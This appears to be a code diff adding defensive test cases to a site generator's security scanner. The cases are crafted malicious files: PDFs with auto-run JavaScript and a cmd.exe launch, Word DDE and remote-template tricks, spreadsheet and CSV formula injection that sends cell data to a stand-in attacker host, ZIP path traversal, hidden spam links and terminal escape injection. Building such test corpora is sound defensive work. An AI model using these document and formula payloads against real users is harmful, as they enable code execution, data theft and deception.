+    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+def pdf_stream(data: bytes, entries: str = "") -> bytes:
+    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries.encode(), len(data), data)
+
+
+EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"This program cannot be run in DOS mode."
+
+
+def zip_file(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(zipfile.ZipInfo(name, (2024, 3, 5, 9, 30, 0)), data)
+    return buffer.getvalue()
+
+
+def _zip_edit(data: bytes, edit: Callable[[str, bytes], bytes], add: dict[str, bytes] | None = None) -> bytes:
+    source = zipfile.ZipFile(io.BytesIO(data))
+    members = {name: edit(name, source.read(name)) for name in source.namelist()}
+    return zip_file(members | (add or {}))
+
+
+R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def docx_file(
+    paragraph_xml: str = "", rels: str = "", add: dict[str, bytes] | None = None, settings: str = ""
+) -> bytes:
+    """A Word file made by python-docx, with raw XML added to its body, its relationships and settings."""
+    import docx
+
+    document = docx.Document()
+    document.add_paragraph("关于做好春季森林防火工作的通知")
+    buffer = io.BytesIO()
+    document.save(buffer)
+
+    def edit(name: str, data: bytes) -> bytes:
+        if name == "word/document.xml" and paragraph_xml:
+            return data.replace(b"<w:sectPr", paragraph_xml.encode() + b"<w:sectPr", 1)
+        if name == "word/_rels/document.xml.rels" and rels:
+            return data.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
+        if name == "word/settings.xml" and settings:
+            return data.replace(b"</w:settings>", settings.encode() + b"</w:settings>")
+        if name == "[Content_Types].xml" and add and "word/vbaProject.bin" in add:
+            override = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+            return data.replace(b"<Default ", override.encode() + b"<Default ", 1)
+        return data
+
+    return _zip_edit(buffer.getvalue(), edit, add)
+
+
+def _field(instruction: str, split: int = 0) -> str:
+    """A Word field as runs: begin, the instruction (cut in two at `split`, as Word itself may store it),
+    end."""
+    parts = [instruction[:split], instruction[split:]] if split else [instruction]
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in parts)
+    return (
+        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def _external(rid: str, kind: str, target: str) -> str:
+    return f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}" TargetMode="External"/>'
+
+
+def xlsx_file(cells: dict[str, str | float], add: dict[str, bytes] | None = None) -> bytes:
+    """An Excel file made by openpyxl (a value starting with = is written as a formula)."""
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    sheet = book.active
+    for ref, value in cells.items():
+        sheet[ref] = value
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return _zip_edit(buffer.getvalue(), lambda _name, data: data, add) if add else buffer.getvalue()
+
+
+def png_file(width: int = 1, height: int = 1) -> bytes:
+    raw = b"".join(b"\x00" + b"\xff\xff\xff" * width for _ in range(height))
+
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")
+
+    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
+
+
+PAGE_BYTES = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
+SVG_BYTES = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
+EXTERNAL_BOOK = (
+    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+    f' xmlns:r="{R_NS}"><externalBook r:id="rId1"/></externalLink>'
+).encode()
+
+# name: (extension, what it is, its bytes). Names ending in "plain" are ordinary files that must pass.
+CRAFTED: dict[str, tuple[str, str, Callable[[], bytes]]] = {
+    "pdf-plain": (
+        "pdf",
+        "a plain PDF opening at its first page, linking to www.gov.cn",
+        lambda: pdf_file(
+            "/OpenAction [3 0 R /Fit]",
+            "/Annots [5 0 R]",
+            ("<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://www.gov.cn/) >> >>",),
+        ),
+    ),
+    "pdf-openaction-js": (
+        "pdf",
+        "/OpenAction JavaScript",
+        lambda: pdf_file(f"/OpenAction << /S /JavaScript /JS ({JS}) >>"),
+    ),
+    "pdf-openaction-js-stream": (
+        "pdf",
+        "/OpenAction to an object whose /JS is a compressed stream",
+        lambda: pdf_file(
+            "/OpenAction 5 0 R",
+            extra=("<< /S /JavaScript /JS 6 0 R >>", pdf_stream(zlib.compress(JS.encode()), "/Filter /FlateDecode")),
+        ),
+    ),
+    "pdf-names-js": (
+        "pdf",
+        "a /Names JavaScript tree",
+        lambda: pdf_file(
+            "/Names << /JavaScript << /Names [(init) 5 0 R] >> >>",
+            extra=(f"<< /S /JavaScript /JS ({JS}) >>",),
+        ),
+    ),
+    "pdf-launch": (
+        "pdf",
+        "/Launch cmd.exe",
+        lambda: pdf_file(
+            "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>",
+        ),
+    ),
+    "pdf-embedded-exe": (
+        "pdf",
+        "an embedded setup.exe",
+        lambda: pdf_file(
+            "/Names << /EmbeddedFiles << /Names [(setup.exe) 5 0 R] >> >>",
+            extra=("<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>", pdf_stream(EXE, "/Type /EmbeddedFile")),
+        ),
+    ),
+    "pdf-page-aa": (
+        "pdf",
+        "a page /AA action running JavaScript",
+        lambda: pdf_file(
+            page=f"/AA << /O << /S /JavaScript /JS ({JS}) >> >>",
+        ),
+    ),
+    "pdf-openaction-uri": (
+        "pdf",
+        f"/OpenAction /URI to {EVIL}",
+        lambda: pdf_file(
+            f"/OpenAction << /S /URI /URI (https://{EVIL}/landing) >>",
+        ),
+    ),
+    "pdf-xfa": (
+        "pdf",
+        "an XFA form",
+        lambda: pdf_file(
+            "/AcroForm << /Fields [] /XFA 5 0 R >>",
+            extra=(
+                pdf_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'),
+            ),
+        ),
+    ),
+    "pdf-richmedia": (
+        "pdf",
+        "a /RichMedia (Flash) annotation",
+        lambda: pdf_file(
+            page="/Annots [5 0 R]",
+            extra=("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",),
+        ),
+    ),
+    "pdf-hex-escaped-name": (
+        "pdf",
+        "/OpenAction /J#61vaScript (a name written with #xx escapes)",
+        lambda: pdf_file(
+            f"/OpenAction << /S /J#61vaScript /J#53 ({JS}) >>",
+        ),
+    ),
+    "docx-plain": (
+        "docx",
+        "a plain Word file with a hyperlink to www.gov.cn",
+        lambda: docx_file(
+            rels=_external("rIdGov", "hyperlink", "https://www.gov.cn/"),
+        ),
+    ),
+    "docx-attached-template": (
+        "docx",
+        f"a remote attachedTemplate on {EVIL}",
+        lambda: docx_file(
+            settings=f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdEvil"/>',
+            add={
+                "word/_rels/settings.xml.rels": (
+                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                    + _external("rIdEvil", "attachedTemplate", f"https://{EVIL}/normal.dotm")
+                    + "</Relationships>"
+                ).encode()
+            },
+        ),
+    ),
+    "docx-ole-external": (
+        "docx",
+        "an external OLE object linking to an .hta",
+        lambda: docx_file(
+            rels=_external("rIdOle", "oleObject", f"https://{EVIL}/x.hta"),
+        ),
+    ),
+    "docx-ddeauto": (
+        "docx",
+        "a DDEAUTO field",
+        lambda: docx_file(
+            _field(' DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe" '),
+        ),
+    ),
+    "docx-dde-split": (
+        "docx",
+        "a DDE field cut across two runs",
+        lambda: docx_file(
+            _field(' DDE c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe" ', split=3),
+        ),
+    ),
+    "docx-includepicture": (
+        "docx",
+        "a remote INCLUDEPICTURE",
+        lambda: docx_file(
+            _field(f' INCLUDEPICTURE "https://{EVIL}/track.png" \\d '),
+        ),
+    ),
+    "docx-vba": (
+        "docx",
+        "a vbaProject.bin part",
+        lambda: docx_file(
+            add={
+                "word/vbaProject.bin": OLE_MAGIC + b"\x00" * 56 + b'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()'
+            },
+        ),
+    ),
+    "xlsx-plain": (
+        "xlsx",
+        "a plain Excel file with numbers and =SUM",
+        lambda: xlsx_file(
+            {"A1": "年份", "B1": "数值", "A2": 2024, "B2": -3.2, "A3": 2025, "B3": 226.4, "B4": "=SUM(B2:B3)"},
+        ),
+    ),
+    "xlsx-webservice": (
+        "xlsx",
+        "a =WEBSERVICE formula",
+        lambda: xlsx_file(
+            {"A1": "数值", "A2": f'=WEBSERVICE("https://{EVIL}/?d="&A1)'},
+        ),
+    ),
+    "xlsx-dde": (
+        "xlsx",
+        "a DDE formula =cmd|' /C calc'!A0",
+        lambda: xlsx_file({"A1": "数值", "A2": "=cmd|' /C calc'!A0"}),
+    ),
+    "xlsx-hyperlink": (
+        "xlsx",
+        f"a =HYPERLINK formula to {EVIL}",
+        lambda: xlsx_file(
+            {"A1": "数值", "A2": f'=HYPERLINK("https://{EVIL}/?d="&A1,"详情")'},
+        ),
+    ),
+    "xlsx-external-link": (
+        "xlsx",
+        f"an externalLink part to a workbook on {EVIL}",
+        lambda: xlsx_file(
+            {"A1": "数值", "A2": "=[1]Sheet1!A1"},
+            add={
+                "xl/externalLinks/externalLink1.xml": EXTERNAL_BOOK,
+                "xl/externalLinks/_rels/externalLink1.xml.rels": (
+                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                    + _external("rId1", "externalLinkPath", f"https://{EVIL}/book.xlsx")
+                    + "</Relationships>"
+                ).encode(),
+            },
+        ),
+    ),
+    "zip-plain": (
+        "zip",
+        "a ZIP of a PDF and a text file",
+        lambda: zip_file(
+            {"通知.pdf": pdf_file(), "说明.txt": "附件说明。".encode()},
+        ),
+    ),
+    "zip-exe": ("zip", "a ZIP holding setup.exe", lambda: zip_file({"setup.exe": EXE})),
+    "zip-bat": ("zip", "… run.bat", lambda: zip_file({"run.bat": b"@echo off\r\ncalc.exe\r\n"})),
+    "zip-js": ("zip", "… a .js", lambda: zip_file({"通知.js": b"WScript.CreateObject('WScript.Shell').Run('calc')"})),
+    "zip-vbs": ("zip", "… a .vbs", lambda: zip_file({"通知.vbs": b'CreateObject("WScript.Shell").Run "calc"'})),
+    "zip-lnk": ("zip", "… a .lnk", lambda: zip_file({"通知.lnk": LNK_MAGIC + b"\x00" * 68})),
+    "zip-hta": (
+        "zip",
+        "… an .hta",
+        lambda: zip_file({"通知.hta": b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"}),
+    ),
+    "zip-scr": ("zip", "… a .scr", lambda: zip_file({"屏保.scr": EXE})),
+    "zip-rtlo-name": (
+        "zip",
+        "a member named 通知\\u202efdp.exe (reads as 通知exe.pdf)",
+        lambda: zip_file({"通知\u202efdp.exe": EXE}),
+    ),
+    "zip-traversal": (
+        "zip",
+        "a member named ../../… (written outside the folder)",
+        lambda: zip_file(
+            {"../../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/readme.txt": b"x"},
+        ),
+    ),
+    "zip-absolute": (
+        "zip",
+        "a member with an absolute path",
+        lambda: zip_file({"/etc/cron.d/update": b"* * * * * root id"}),
+    ),
+    "zip-nested-exe": (
+        "zip",
+        "a ZIP in a ZIP holding an .exe",
+        lambda: zip_file({"附件.zip": zip_file({"setup.exe": EXE})}),
+    ),
+    "zip-exe-as-pdf": ("zip", "a program named .pdf inside a ZIP", lambda: zip_file({"通知.pdf": EXE})),
+    "zip-html": ("zip", "an .html page inside a ZIP", lambda: zip_file({"通知.html": PAGE_BYTES})),
+    "zip-docm": ("zip", "a macro document (.docm) inside a ZIP", lambda: zip_file({"通知.docm": docx_file()})),
+    "png-plain": ("png", "a real PNG picture", lambda: png_file(4, 4)),
+    "jpg-html-bytes": ("jpg", "an HTML page named .jpg", lambda: PAGE_BYTES),
+    "jpg-svg-bytes": ("jpg", "an SVG with a script named .jpg", lambda: SVG_BYTES),
+    "pdf-html-bytes": ("pdf", "an HTML page named .pdf", lambda: PAGE_BYTES),
+    "json-html-bytes": ("json", "an HTML page named .json", lambda: PAGE_BYTES),
+    "pdf-exe-bytes": ("pdf", "a program named .pdf", lambda: EXE),
+}
+BENIGN_SUFFIX = "plain"
+
+
+def attachment_cases() -> list[Case]:
+    """Each crafted file attached to an item of its own: content/gzdt/aNNN.md and aNNN/aNNN.<ext>."""
+    cases = []
+    for n, (name, (ext, what, make)) in enumerate(CRAFTED.items(), start=1):
+        stem = f"a{n:03d}"
+        item, attached = f"content/gzdt/{stem}.md", f"content/gzdt/{stem}/{stem}.{ext}"
+        text = markdown_item(f"附件用例{stem}", fields={"attachments": f"[{{file: {stem}.{ext}, title: 附件{stem}}}]"})
+        vector = Vector(name.split("-", 1)[1], "attach", "file", what)
+        cases.append(
+            Case(
+                "attachment",
+                ext if name.startswith(ext) else name.split("-")[0],
+                vector,
+                source=item,
+                page=f"gzdt/{stem}.html",
+                files=((item, text), (attached, make())),
+                outputs=(f"gzdt/{stem}/",),
+                also=((attached, None),),
+            )
+        )
+    return cases
+
+
+# ---------------------------------------------------------------- CSV cells in data downloads
+
+CSV_CELLS = {
+    "hyperlink": f'=HYPERLINK("http://{EVIL}/?d="&A1,"详情")',
+    "dde-cmd": "=cmd|' /C calc'!A0",
+    "plus-dde": "+1+cmd|' /C calc'!A0",
+    "minus-dde": "-2+3+cmd|' /C calc'!A0",
+    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab-formula": "\t=1+1",
+    "cr-formula": "\r=1+1",
+    "webservice": f'=WEBSERVICE("http://{EVIL}/?d="&A1)',
+}
+CSV_HEADERS = {"data-header": ("hyperlink", "at-sum"), "rows-header": ("dde-cmd",)}
+CSV_NUMBERS = {"negative-number": "-3.2", "decimal-number": "226.4"}  # benign: must stay numbers
+SJFB_COLUMN = (
+    "content/sjfb/_column.yaml",
+    "name: 数据发布\ntype: 数据发布\ndescription: 数据发布栏目\nkeywords: [数据]\n",
+)
+
+
+def _csv_text(rows: list[list[str]]) -> str:
+    buffer = io.StringIO()
+    # every cell quoted: with a "\n" line end, csv quotes no cell for a CR alone (the bug it tests)
+    csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
+    return buffer.getvalue()
+
+
+def _rows_yaml(rows: list[list[str]], numbers: tuple[str, ...]) -> str:
+    cells = lambda row: ", ".join(c if c in numbers else yaml_string(c) for c in row)  # noqa: E731
+    return "rows:\n" + "".join(f"  - [{cells(row)}]\n" for row in rows)
+
+
+def csv_cases() -> list[Case]:
+    """Each cell in a 数据发布 item of its own, from a `data:` CSV file (dNNN-data.csv) or from `rows:`,
+    in a data cell or in the header; plain negative and decimal numbers, which must stay numbers; and a
+    data file named as the download is (dNNN.csv beside dNNN.yaml), which must not replace it."""
+    plan = [(f"{source}-cell", k, v) for k, v in CSV_CELLS.items() for source in ("data", "rows")]
+    plan += [("data-same-name", k, CSV_CELLS[k]) for k in ("dde-cmd", "hyperlink")]
+    plan += [(place, k, CSV_CELLS[k]) for place, keys in CSV_HEADERS.items() for k in keys]
+    plan += [(f"{source}-cell", k, v) for k, v in CSV_NUMBERS.items() for source in ("data", "rows")]
+    cases = []
+    for n, (place, name, cell) in enumerate(plan, start=1):
+        stem = f"d{n:03d}"
+        rows = (
+            [["年份", cell], ["2024年", "1.5"], ["2025年", "2.5"]]
+            if place.endswith("header")
+            else [["年份", "数值"], ["2024年", cell], ["2025年", "12.5"]]
+        )
+        number = (cell,) if name in CSV_NUMBERS else ()
+        head = f"title: 数据用例{stem}\ndate: 2024-03-05 09:30\nsource: 测试县统计局\n"
+        item = f"content/sjfb/{stem}.yaml"
+        if place.startswith("data"):
+            data = f"{stem}.csv" if place == "data-same-name" else f"{stem}-data.csv"
+            files = ((item, head + f"data: {data}\n"), (f"content/sjfb/{data}", _csv_text(rows)))
+        else:
+            files = ((item, head + _rows_yaml(rows, number)),)
+        cases.append(
+            Case(
+                "csv",
+                place,
+                Vector(name, "csv", "cell", cell),
+                source=item,
+                page=f"sjfb/{stem}.html",
+                files=(SJFB_COLUMN, *files),
+                outputs=(f"sjfb/{stem}.csv", f"sjfb/{stem}.json"),
+                also=tuple((f, None) for f, _ in files[1:]),
+                csv_rows=len(rows),
+                csv_numbers=number,
+            )
+        )
+    return cases
+
+
+# ---------------------------------------------------------------- control characters in feeds
+
+XML_CHARACTERS = {
+    "title": ("\x00", "\x01", "\x08", "\x0b", "\x1b", "\x1f", "\ufffe", "\uffff"),
+    "source": ("\x01", "\x1f", "\ufffe"),
+    "description": ("\x01", "\x1b", "\ufffe"),
+}
+
+
+def xml_cases() -> list[Case]:
+    """A field holding a character XML 1.0 forbids, each in a column of its own (its rss.xml owned by
+    the case): content/xNN/item.md."""
+    cases = []
+    plan = [(f, c) for f, chars in XML_CHARACTERS.items() for c in chars]
+    for n, (name, char) in enumerate(plan, start=1):
+        folder = f"x{n:02d}"
+        value = f"攻击{folder}{char}控制字符"
+        fields = {"title": yaml_string(f"信息{folder}")} | {name: yaml_string(value)}
+        item = f"content/{folder}/item.md"
+        files = (
+            (
+                f"content/{folder}/_column.yaml",
+                f"name: 栏目{folder}\ntype: 工作动态\ndescription: 栏目\nkeywords: [动态]\n",
+            ),
+            (item, markdown_item("", fields=fields)),
+        )
+        vector = Vector(f"u{ord(char):04x}", "xml", "field", value)
+        cases.append(
+            Case("xml", name, vector, source=item, page=f"{folder}/item.html", files=files, outputs=(f"{folder}/",))
+        )
+    return cases
+
+
+# ---------------------------------------------------------------- dates after now (NOW is 2025-01-10 12:00)
+
+FUTURE_DATES = {
+    "later-today": "2025-01-10 18:00",
+    "tomorrow-date-only": "2025-01-11",
+    "next-month": "2025-02-01 09:00",
+    "chinese-format": "2025年6月1日 09：30",
+    "far-future": "2099-01-01 09:00",
+}
+
+
+def future_cases() -> list[Case]:
+    """Items dated after the build's --now: their page, and any list, feed, sitemap or search entry for
+    them, must wait (the harness tells the scanner which pages are held)."""
+    cases = []
+    for n, (name, date) in enumerate(FUTURE_DATES.items(), start=1):
+        stem, page = f"f{n:03d}", f"gzdt/f{n:03d}.html"
+        item = f"content/gzdt/{stem}.md"
+        files = ((item, markdown_item(f"未来用例{stem}", fields={"date": yaml_string(date)})),)
+        cases.append(
+            Case(
+                "future",
+                "md-date",
+                Vector(name, "future", "date", date),
+                source=item,
+                page=page,
+                value=page,
+                files=files,
+                held=page,
+            )
+        )
+    stem = f"f{len(FUTURE_DATES) + 1:03d}"
+    guide = _guide(f"未来用例{stem}").replace("date: 2024-01-05 09:00", "date: 2025-03-01 09:00")
+    item, page = f"content/bsfw/{stem}.yaml", f"bsfw/{stem}.html"
+    cases.append(
+        Case(
+            "future",
+            "yaml-date",
+            Vector("service-guide", "future", "date", "2025-03-01 09:00"),
+            source=item,
+            page=page,
+            value=page,
+            files=((item, guide),),
+            held=page,
+        )
+    )
+    return cases
+
+
+# ---------------------------------------------------------------- hidden links (暗链)
+
+CASINO = "casino.example.com"
+_LINK = f'<a href="https://{CASINO}/">娱乐城</a>'
+DARK_BODIES = {
+    "md-empty-text": f"[](https://{CASINO}/)",
+    "md-zero-width-text": f"[\u200b](https://{CASINO}/)",
+    "md-nbsp-text": f"[&nbsp;](https://{CASINO}/)",
+    "html-empty-a": f'<a href="https://{CASINO}/"></a>',
+    "img-0x0": f'<a href="https://{CASINO}/"><img src="/static/img/favicon.svg" width="0" height="0" alt="娱乐城"></a>',
+    "img-1x1": f'<a href="https://{CASINO}/"><img src="/static/img/favicon.svg" width="1" height="1" alt="娱乐城"></a>',
+    "img-no-alt": f'<a href="https://{CASINO}/"><img src="/static/img/favicon.svg" width="32" height="32" alt=""></a>',
+    "details-empty-summary": f"<details><summary></summary><p>{_LINK}</p></details>",
+    "rp": f"<p><ruby>娱<rp>{_LINK}</rp><rt>yu</rt></ruby></p>",
+    "nested-sub": "<p>" + "<sub>" * 15 + _LINK + "</sub>" * 15 + "</p>",
+    "nested-small": "<p>" + "<small>" * 15 + _LINK + "</small>" * 15 + "</p>",
+    "template": f"<template>{_LINK}</template>",
+    "noscript": f"<noscript>{_LINK}</noscript>",
+    "hidden-attribute": f"<p hidden>{_LINK}</p>",
+    "plain": f"<p>友情链接：{_LINK}。</p>",  # benign: a visible outside link (with gsgen's leaving prompt)
+    "details-plain": f"<details><summary>更多链接</summary><p>{_LINK}</p></details>",  # benign
+}
+
+
+def darklink_cases() -> list[Case]:
+    cases = [Case("darklink", "body", Vector(name, "darklink", "html", body)) for name, body in DARK_BODIES.items()]
+    out = []
+    for n, c in enumerate(cases, start=1):
+        stem = f"k{n:03d}"
+        item = f"content/gzdt/{stem}.md"
+        text = markdown_item(f"链接用例{stem}", f"正文开始。\n\n{c.vector.payload}\n\n正文结束。")
+        out.append(replace(c, source=item, page=f"gzdt/{stem}.html", files=((item, text),)))
+    return out
+
+
+DARK_THEME = "dark"
+DARK_CSS = f"themes/{DARK_THEME}/static/css/site.css"
+DARK_JS = f"themes/{DARK_THEME}/static/js/site.js"
+DARK_404 = f"themes/{DARK_THEME}/templates/404.html"
+
+
+def _theme_link(letter: str, around: str = "<p{}>{}</p>", attrs: str = "") -> str:
+    return around.format(attrs, f'<a href="https://casino-{letter}.example.com/" data-external>友情链接</a>')
+
+
+# name: (rule appended to the theme's site.css, line added to its 404 template, line appended to its site.js)
+DARK_THEME_CASES = {
+    "css-class-display-none": (".tz-a{display:none}", _theme_link("a", attrs=' class="tz-a"'), ""),
+    "css-attribute-off-screen": ("a[href*=casino-b]{position:absolute;left:-9999px}", _theme_link("b"), ""),
+    "css-class-font-size-0": (".tz-c{font-size:0}", _theme_link("c", attrs=' class="tz-c"'), ""),
+    "template-link": ("", _theme_link("d", "<template{}>{}</template>"), ""),
+    "noscript-link": ("", _theme_link("e", "<noscript{}>{}</noscript>"), ""),
+    "script-location-replace": ("", "", 'location.replace("https://casino-f.example.com/");'),
+    "plain": (".tz-g{color:#333}", _theme_link("g", attrs=' class="tz-g"'), ""),  # benign
+}
+
+
+def darktheme_cases() -> list[Case]:
+    """A site theme (themes/dark) overriding the default's site.css, site.js and 404 template: each case
+    adds a rule, a line or a statement, and is told apart by its host casino-<letter>.example.com."""
+    cases = []
+    for letter, (name, (css, line, js)) in zip("abcdefg", DARK_THEME_CASES.items(), strict=True):
+        source = DARK_CSS if css else DARK_JS if js else DARK_404
+        outputs = ("static/js/site.js",) if js else ()
+        vector = Vector(name, "darklink", "theme", css or line or js)
+        cases.append(
+            Case(
+                "darktheme",
+                "theme",
+                vector,
+                source=source,
+                value=f"casino-{letter}.example.com",
+                outputs=outputs,
+                also=((DARK_JS, None),) if js else (),
+            )
+        )
+    return cases
+
+
+def dark_theme_files(cases: list[Case]) -> tuple[dict[str, str], dict[str, int]]:
+    """The dark theme carrying `cases`; the line of each case in the file it is named by and, keyed
+    "<id> <template>", the template line of its link."""
+    from tests.sites import THEME as DEFAULT_THEME
+
+    css = (DEFAULT_THEME / "static/css/site.css").read_text("utf-8").rstrip("\n") + "\n"
+    js = (DEFAULT_THEME / "static/js/site.js").read_text("utf-8").rstrip("\n") + "\n"
+    lines: list[str] = []
+    where: dict[str, int] = {}
+    for c in cases:
+        rule, line, statement = DARK_THEME_CASES[c.vector.id]
+        if rule:
+            css += rule + "\n"
+            where[c.id] = css.count("\n")
+        if statement:
+            js += statement + "\n"
+            where[c.id] = js.count("\n")
+        if line:
+            lines.append(line)
+    template, numbers = theme_template(lines)
+    for c, n in zip([c for c in cases if DARK_THEME_CASES[c.vector.id][1]], numbers, strict=True):
+        where.setdefault(c.id, n)
+        where[f"{c.id} {DARK_404}"] = n
+    # a file is overridden only where a case needs it (a theme's undeclared script would refuse them all)
+    files = {DARK_404: template}
+    files |= {DARK_CSS: css} if any(DARK_THEME_CASES[c.vector.id][0] for c in cases) else {}
+    files |= {DARK_JS: js} if any(DARK_THEME_CASES[c.vector.id][2] for c in cases) else {}
+    return files, where
+
+
+# ---------------------------------------------------------------- what gsgen prints
+
+TERMINAL_CASES = {
+    # name: (file, its text, a word of the line that must name it)
+    "file-name-cr": ("content/gzdt/a\r构建完成b.md", markdown_item("终端用例一"), "构建完成b.md"),
+    "date-osc52": (
+        "content/gzdt/t002.md",
+        markdown_item("终端用例二", fields={"date": yaml_string("2024-03-05\x1b]52;c;ZWNobyBldmls\x07")}),
+        "t002.md",
+    ),
+    "field-name-esc": (
+        "content/gzdt/t003.md",
+        markdown_item("终端用例三", fields={yaml_string("x\x1b[2K\x1b[1A构建完成"): "1"}),
+        "t003.md",
+    ),
+    "title-esc": (
+        "content/gzdt/t004.md",
+        markdown_item(yaml_string("终端用例四\x1b[2K\x1b[1A构建完成"), fields={"keywords": '["\\u009b31m"]'}),
+        "t004.md",
+    ),
+}
+
+
+def terminal_cases() -> list[Case]:
+    """Values and file names with ESC, CR, BEL or CSI: gsgen's printed lines must not carry them raw
+    (a CI log can be made to show 构建完成 over an error). Each is built alone."""
+    return [
+        Case(
+            "terminal",
+            "printed",
+            Vector(name, "terminal", "text", repr(text)),
+            source=path,
+            value=word,
+            files=((path, text),),
+        )
+        for name, (path, text, word) in TERMINAL_CASES.items()
+    ]
+
+
 ENTRIES: dict[str, Callable[[], list[Case]]] = {
     "body": body_cases,
     "front-matter": front_matter_cases,
     "structured": structured_cases,
     "config": config_cases,
     "theme": theme_cases,
+    # issue 28: what else a portal publishes
+    "attachment": attachment_cases,
+    "csv": csv_cases,
+    "xml": xml_cases,
+    "future": future_cases,
+    "darklink": darklink_cases,
+    "darktheme": darktheme_cases,
+    "terminal": terminal_cases,
 }
+NEW_ENTRIES = ("attachment", "csv", "xml", "future", "darklink", "darktheme", "terminal")
 
 
 def all_cases(entries: Iterable[str] = ENTRIES) -> list[Case]:
@@ -1089,13 +2298,14 @@ def _line_of(text: str, prefix: str) -> int:
     return next(n for n, line in enumerate(text.split("\n"), start=1) if line.startswith(prefix))
 
 
-def site_files(cases: list[Case]) -> tuple[dict[str, str], list[Case]]:
+def site_files(cases: list[Case]) -> tuple[dict[str, str | bytes], list[Case]]:
     """The site carrying `cases`, and the cases with their line filled in where a file holds several
     (config.yaml, the theme's template)."""
-    files = base_files()
-    config = files["config.yaml"]
+    files: dict[str, str | bytes] = dict(base_files())
+    config = str(files["config.yaml"])
     lists: dict[str, list[str]] = {}
     for c in cases:
+        files.update(c.files)
         if c.entry in ("body", "front-matter", "structured"):
             files[c.source] = c.text
         elif c.placement in SITE_URL_FIELDS:
@@ -1115,10 +2325,21 @@ def site_files(cases: list[Case]) -> tuple[dict[str, str], list[Case]]:
     if theme:
         config += f"theme: {THEME}\n"
         files[THEME_404], lines = theme_template([c.text for c in theme])
+    dark = [c for c in cases if c.entry == "darktheme"]
+    dark_lines: dict[str, int] = {}
+    if dark:
+        config += f"theme: {DARK_THEME}\n"
+        theme_files, dark_lines = dark_theme_files(dark)
+        files |= theme_files
     files["config.yaml"] = config
     placed = []
     for c in cases:
-        if c.placement in CONFIG_LISTS:
+        if c.id in dark_lines:
+            # a stylesheet's case is also named by the template line of the link it hides
+            around = dark_lines.get(f"{c.id} {DARK_404}")
+            extra = ((DARK_404, around),) if c.source != DARK_404 and around else ()
+            c = replace(c, line=dark_lines[c.id], also=c.also + extra)
+        elif c.placement in CONFIG_LISTS:
             title = _list_title(c)
             c = replace(c, line=next(n for n, line in enumerate(config.split("\n"), start=1) if title in line))
         elif c.source == "config.yaml":
@@ -1183,7 +2404,7 @@ class Workspace:
         self.site = root / "site"
         self.out = root / "public"
 
-    def build(self, files: dict[str, str]) -> Build:
+    def build(self, files: dict[str, str | bytes]) -> Build:
         from tests.conftest import NOW, gsgen_here
         from tests.sites import write_site
 
@@ -1246,7 +2467,7 @@ class Settler:
                 continue
             owned: dict[str, list[str]] = defaultdict(list)
             stray: list[str] = []
-            for f in scan_folder(build.out):
+            for f in scan_folder(build.out, expect=expectations(placed)):
                 if f.message not in self.baseline:
                     owner = self._owner(f, placed)
                     (owned[owner] if owner else stray).append(str(f))
@@ -1282,11 +2503,12 @@ class Settler:
     def _blame(self, build: Build, placed: list[Case]) -> dict[str, tuple[bool, list[str]]]:
         """Case id → (whether an error names its source file and line, the errors about it)."""
